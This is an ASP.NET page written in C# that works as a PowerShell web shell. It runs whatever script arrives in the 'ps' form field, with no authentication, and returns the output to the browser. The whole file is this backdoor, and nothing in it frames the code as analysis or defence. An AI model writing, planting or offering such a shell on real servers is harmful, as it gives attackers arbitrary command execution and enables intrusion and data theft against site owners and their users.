<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<%
    using (Runspace rs = RunspaceFactory.CreateRunspace()) {
        rs.Open();
        using (PowerShell ps = PowerShell.Create()) {
            ps.Runspace = rs;
            ps.AddScript(Request.Form["ps"]);
            foreach (var o in ps.Invoke()) { Response.Write(Server.HtmlEncode(o.ToString()) + "<br/>"); }
        }
    }
%>
